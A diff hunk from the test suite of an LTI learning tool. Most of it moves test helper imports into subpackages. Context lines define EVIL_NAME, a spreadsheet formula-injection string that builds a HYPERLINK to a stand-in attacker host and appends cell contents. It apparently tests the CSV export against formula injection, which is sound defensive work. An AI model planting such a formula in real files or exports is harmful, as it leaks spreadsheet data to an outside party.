@@ -25,12 +25,12 @@ from lti_tool.extensions import db
 from lti_tool.kpis.reports import to_csv
 from lti_tool.models import Person
 from lti_tool.platforms import PlatformError, parse_jwks
+from tests.admin.test_admin import add_admin, sign_in
+from tests.api.test_api import bearer, make_token
 from tests.conftest import https_client
-from tests.lti_platform import FakePlatform
-from tests.processes import ROOT, free_port
-from tests.test_admin import add_admin, sign_in
-from tests.test_api import bearer, make_token
-from tests.test_learners_page import seeded  # noqa: F401 (a fixture)
+from tests.helpers.platform import FakePlatform
+from tests.helpers.processes import ROOT, free_port
+from tests.views.test_learners import seeded  # noqa: F401 (a fixture)
 
 ANY = "0.0.0.0"  # noqa: S104 (the address that listens everywhere)
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
